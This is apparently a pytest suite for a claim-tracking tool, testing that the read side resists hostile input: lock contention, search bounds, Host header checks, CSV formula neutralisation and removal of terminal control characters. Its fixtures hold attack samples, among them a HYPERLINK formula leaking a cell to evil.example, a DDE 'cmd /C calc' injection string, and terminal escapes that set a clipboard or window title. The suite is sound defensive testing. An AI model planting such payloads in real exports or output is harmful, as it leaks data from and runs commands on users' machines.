"""The read side under hostile input (issue 15): readers never take the write lock, full-text
search is bounded and answers 400 past the bound, numbers out of range and FTS syntax are 400s,
LIKE wildcards in filters are literal, the web app checks the Host header, CSV exports are safe
to open in a spreadsheet, and the CLI never prints control characters from an article."""

from __future__ import annotations

import base64
import csv
import json
import re
import sqlite3
import threading
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event
from typer.testing import CliRunner

from claimgraph.cli import app as cli_app
from claimgraph.serve.app import create_app
from claimgraph.store import Store
from claimgraph.store.database import ReadOnlyStore
from claimgraph.terminal import clean

LOCAL = "http://127.0.0.1:8000"
runner = CliRunner()
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ESC_TITLE = "\x1b]0;pwned\x07\x1b[2J\x1b[31mRed title\x9b0m"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def client(linked_sample_db: Path):
    with TestClient(create_app(linked_sample_db), base_url=LOCAL) as c:
        yield c


def _cursor(values: list) -> str:
    return base64.urlsafe_b64encode(json.dumps(values).encode()).decode().rstrip("=")


def _pause_inside_search(engine, on_search) -> None:
    """Call `on_search()` from SQLite's progress handler while the full-text SELECT runs (after
    whatever transaction the store began), so a test can act while a search holds its
    connection."""

    @event.listens_for(engine, "before_cursor_execute")
    def _arm(conn, cursor, statement, *_args) -> None:
        if "MATCH" in statement:
            conn.connection.driver_connection.set_progress_handler(on_search, 1)

    @event.listens_for(engine, "after_cursor_execute")
    def _disarm(conn, cursor, statement, *_args) -> None:
        conn.connection.driver_connection.set_progress_handler(None, 0)


# -- readers and the write lock ----------------------------------------------------------------


@pytest.mark.sqlite_only("SQLite's single write lock")
def test_a_long_search_never_blocks_a_write(linked_sample_db, tmp_path, copy_database) -> None:
    """A search paused mid-query holds its connection while another process commits a write
    transaction with a 2 s busy timeout (the write used to fail: searches began with BEGIN
    IMMEDIATE, so `analyze` failed with "database is locked" behind a slow search)."""
    db = copy_database(linked_sample_db, tmp_path / "busy.db")
    app = create_app(db)
    started, release = threading.Event(), threading.Event()

    def pause() -> int:
        if not started.is_set():
            started.set()
            release.wait(20)
        return 0

    _pause_inside_search(app.state.store.engine, pause)
    app.state.store.search_seconds = 60  # the pause is not the search's own cost
    answers: dict[str, object] = {}

    def search() -> None:
        with TestClient(app, base_url=LOCAL) as c:
            answers["search"] = c.get("/api/search", params={"q": "forces"})

    reader = threading.Thread(target=search)
    reader.start()
    try:
        assert started.wait(20), "the search never reached SQLite"
        writer = sqlite3.connect(db, timeout=2, isolation_level=None)
        writer.execute("BEGIN IMMEDIATE")
        writer.execute("INSERT INTO meta (key, value) VALUES ('probe', 'written')")
        writer.execute("COMMIT")
        writer.close()
    finally:
        release.set()
        reader.join(30)
    response = answers["search"]
    assert response.status_code == 200 and response.json()["results"]
    with Store(db) as store:
        assert store.query("SELECT value FROM meta WHERE key = 'probe'") == [{"value": "written"}]


def test_read_only_store_cannot_write_and_reads_past_a_held_write_lock(
    sample_db, tmp_path, copy_database
) -> None:
    db = copy_database(sample_db, tmp_path / "ro.db")
    holder = Store(db)
    with holder.writing() as conn:  # another writer mid-transaction, lock held
        conn.exec_driver_sql("INSERT INTO meta (key, value) VALUES ('held', 'x')")
        started = time.monotonic()
        with Store(db, read_only=True) as reader:
            assert reader.counts()["documents"] == 5
            assert reader.search_sentences("helicopter")
            with pytest.raises(ReadOnlyStore), reader.writing():
                pass
        assert time.monotonic() - started < 10
    with Store(db, read_only=True) as reader, pytest.raises(Exception, match="read.?only"):
        reader.query("INSERT INTO meta (key, value) VALUES ('sneaky', 'x')")
    holder.close()


# -- search bounds and syntax -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "says"),
    [
        pytest.param("*", "Search syntax error", id="star"),
        pytest.param('"unbalanced', "Search syntax error", id="quote"),
        pytest.param("forces)", "Search syntax error", id="paren"),
        pytest.param(
            "f* OR a* OR b* OR c* OR d* OR e* OR g* OR h* OR i*", "9 prefix", id="9-prefixes"
        ),
        pytest.param(
            " ".join(f"{w}*" for w in ["ab", "cd", "ef"] * 200), "too long", id="600-prefixes"
        ),
        pytest.param(
            "NEAR(" + " ".join(f"t{i}*" for i in range(1500)) + ")", "too long", id="near"
        ),
        pytest.param(" ".join(f"w{i}" for i in range(100)), "100 terms", id="100-terms"),
    ],
)
def test_search_syntax_and_cost_are_400_with_a_message(client, query, says) -> None:
    started = time.monotonic()
    for path in ("/api/search", "/search"):
        r = client.get(path, params={"q": query})
        assert r.status_code == 400, (query[:40], r.status_code, r.text[:200])
        assert says in r.text
    assert time.monotonic() - started < 5


@pytest.mark.sqlite_only("SQLite's progress handler stands in for a slow index")
def test_a_search_over_its_time_budget_is_stopped_with_a_400(linked_sample_db) -> None:
    app = create_app(linked_sample_db)
    app.state.store.search_seconds = 0.2
    slept: list[bool] = []

    def slow() -> int:
        if not slept:
            slept.append(True)
            time.sleep(1.0)  # the query is still running when the budget runs out
        return 0

    _pause_inside_search(app.state.store.engine, slow)
    with TestClient(app, base_url=LOCAL) as c:
        started = time.monotonic()
        r = c.get("/api/search", params={"q": "forces"})
        assert r.status_code == 400 and "took longer than 0.2 s" in r.json()["error"], r.text
        assert time.monotonic() - started < 5
        assert c.get("/api/search", params={"q": "forces"}).json()["results"]  # still usable


@pytest.mark.postgres_only
def test_postgres_search_budget_is_a_statement_timeout(sample_db) -> None:
    """What bounds a search on PostgreSQL: the statement_timeout set for its transaction,
    recognised as "too costly" rather than as the user's syntax."""
    from sqlalchemy.exc import DBAPIError

    from claimgraph.store import postgres

    with Store(sample_db, read_only=True) as store:
        with store.engine.begin() as conn:
            postgres.limit_statement_time(conn, 0.1)
            started = time.monotonic()
            with pytest.raises(DBAPIError) as cancelled:
                conn.exec_driver_sql("SELECT pg_sleep(5)")
            assert time.monotonic() - started < 3
        assert postgres.is_timeout(cancelled.value)
        with store.engine.begin() as conn, pytest.raises(DBAPIError, match="read-only"):
            conn.exec_driver_sql("INSERT INTO meta (key, value) VALUES ('x', 'y')")
        assert store.search_sentences("helicopter")  # the budget is per search, not per session


# -- numbers out of range and LIKE wildcards -----------------------------------------------------


@pytest.mark.parametrize(
    ("path", "cursor"),
    [
        # (documents, outlets, dated, claims, id): the spread order's keyset
        ("/api/narratives", [2**63, 1, 1, 1, "n"]),
        ("/api/narratives", [1, 1, 1, -(2**63) - 1, "n"]),
        ("/api/speakers", [10**30, "s"]),
        ("/api/outlets", [2**64, "o"]),
        ("/api/claims", [float("inf"), "c"]),
    ],
)
def test_cursor_numbers_out_of_range_are_400(client, path, cursor) -> None:
    r = client.get(path, params={"after": _cursor(cursor)})
    assert r.status_code == 400, r.text
    assert "out of range" in r.json()["error"]


def test_huge_integer_parameters_are_400(client) -> None:
    for path in ("/api/narratives", "/narratives"):
        r = client.get(path, params={"min_documents": "99999999999999999999999"})
        assert r.status_code == 400, r.text
        assert "min_documents" in r.text
    assert client.get("/api/narratives", params={"min_documents": 1}).status_code == 200


def test_narrative_filter_takes_percent_and_underscore_literally(client) -> None:
    everything = client.get("/api/narratives", params={"limit": 500}).json()["items"]
    assert everything and not [n for n in everything if "%" in n["label"] or "_" in n["label"]]
    for wildcard in ("%", "_", "%%", "f_rces"):
        r = client.get("/api/narratives", params={"q": wildcard})
        assert r.status_code == 200 and r.json()["items"] == [], wildcard
    word = everything[0]["label"].split()[0].lower()
    found = client.get("/api/narratives", params={"q": word, "limit": 500}).json()["items"]
    assert everything[0]["id"] in {n["id"] for n in found}


# -- Host header --------------------------------------------------------------------------------


def test_host_header_must_name_this_machine_or_an_allowed_name(linked_sample_db) -> None:
    app = create_app(linked_sample_db)
    with TestClient(app, base_url=LOCAL) as c:
        for host in ("127.0.0.1", "127.0.0.1:8000", "localhost:8000", "LOCALHOST", "[::1]:8000"):
            assert c.get("/api/summary", headers={"host": host}).status_code == 200, host
        for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example", ""):
            r = c.get("/api/summary", headers={"host": host})
            assert r.status_code == 400, host
            assert "--allowed-host" in r.json()["error"]
            assert r.headers["content-security-policy"]
        assert c.get("/static/app.css", headers={"host": "evil.example"}).status_code == 400
    wider = create_app(linked_sample_db, allowed_hosts=["127.0.0.1", "claims.newsroom.internal"])
    with TestClient(wider, base_url="http://claims.newsroom.internal") as c:
        assert c.get("/api/summary").status_code == 200
        assert c.get("/api/summary", headers={"host": "localhost"}).status_code == 400
    with TestClient(create_app(linked_sample_db, allowed_hosts=["*"])) as c:
        assert c.get("/api/summary", headers={"host": "anything.example"}).status_code == 200


def test_serve_documents_allowed_host() -> None:
    result = runner.invoke(cli_app, ["serve", "--help"])
    assert "--allowed-host" in result.output


# -- CSV exports and the terminal ---------------------------------------------------------------


@pytest.fixture
def hostile_db(linked_sample_db, tmp_path, copy_database, connect_db) -> Path:
    """The linked sample with article-derived fields rewritten as an attacker would: spreadsheet
    formulas and terminal escape sequences in titles, outlets, speakers, claims and labels."""
    db = copy_database(linked_sample_db, tmp_path / "hostile.db")
    conn = connect_db(db)
    doc = conn.execute("SELECT id FROM documents ORDER BY id LIMIT 1").fetchall()[0][0]
    conn.execute(
        "UPDATE documents SET title = ?, outlet = ?, byline = ? WHERE id = ?",
        (FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", ESC_TITLE, doc),
    )
    conn.execute("UPDATE attributions SET speaker = ?", ("\x1b[8mhidden\x1b[0m Speaker",))
    conn.execute("UPDATE entities SET name = '+' || name || ' \x1b[5m'")
    conn.execute("UPDATE claims SET text = '-2+3 ' || text || ' \x1b]52;c;ZXZpbA==\x07'")
    conn.execute("UPDATE narratives SET label = '\t=1+1 ' || label || ' \x1b[1A'")
    conn.execute(
        "INSERT INTO factchecks (id, claim_text, rating, rating_original, reviewer, review_date, "
        "format, source, imported_at) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
        ("fc_evil", "claim \x1b[2J", "false", "Fal\x1bse", "\x1b]8;;http://x\x07Desk",
         "2024\x1b[1m", "claimreview-csv", "evil.csv#1", "2024-01-01"),
    )  # fmt: skip
    conn.execute(
        "INSERT INTO factcheck_links (claim_id, factcheck_id, score, rank, claim_text, "
        "factcheck_text, method, linked_at) SELECT id, 'fc_evil', 0.9, 1, text, "
        "'checked \x1b[2J', 'test', '2024-01-01' FROM claims ORDER BY id LIMIT 1"
    )
    conn.commit()
    return db


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_csv_export_neutralises_formulas_unless_raw(hostile_db, tmp_path) -> None:
    safe, raw = tmp_path / "safe", tmp_path / "raw"
    for out, extra in ((safe, []), (raw, ["--raw-csv"])):
        r = runner.invoke(
            cli_app, ["export", "-f", "csv", "-o", str(out), "--db", str(hostile_db), *extra]
        )
        assert r.exit_code == 0, r.output
    for name in ("documents.csv", "claims.csv", "narratives.csv", "entities.csv"):
        cells = _csv_cells(safe / name)
        dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not dangerous, (name, dangerous[:3])
        assert len(_csv_cells(raw / name)) == len(cells)
    docs = _csv_cells(safe / "documents.csv")
    assert "'" + FORMULA in docs and "'@SUM(1+1)*cmd|' /C calc'!A0" in docs
    assert FORMULA in _csv_cells(raw / "documents.csv")  # --raw-csv: as stored
    assert any(c.startswith("-2+3 ") for c in _csv_cells(raw / "claims.csv"))
    assert any(c.startswith("'-2+3 ") for c in _csv_cells(safe / "claims.csv"))


def test_cli_prints_no_control_characters_from_articles(hostile_db) -> None:
    with Store(hostile_db) as store:
        doc = store.query("SELECT id FROM documents ORDER BY id LIMIT 1")[0]["id"]
        narrative = store.query("SELECT id FROM narratives ORDER BY claims DESC, id LIMIT 1")
    narrative = narrative[0]["id"]
    runs = (["show"], ["show", doc], ["sources"], ["narratives"], ["trace", narrative])
    for args in (*runs, ["factchecks", "list"]):
        r = runner.invoke(cli_app, [*args, "--db", str(hostile_db)])
        assert r.exit_code == 0, (args, r.output[-500:])
        assert not CONTROL.findall(r.output.replace("\t", "")), (args, CONTROL.findall(r.output))
    shown = runner.invoke(cli_app, ["show", doc, "--db", str(hostile_db)]).output
    assert "]0;pwned" in shown and "Red title" in shown  # the text stays, the escapes go
    assert "hidden" in shown
    listed = runner.invoke(cli_app, ["factchecks", "list", "--db", str(hostile_db)]).output
    assert "Desk" in listed and "checked [2J" in listed


def test_clean_keeps_text_newlines_and_tabs() -> None:
    assert clean("a\x1b[31mb\x9bc\x00d\r\ne\tf\x7f") == "a[31mbcd\ne\tf"
    assert clean("Ложь — «faux» 假") == "Ложь — «faux» 假"
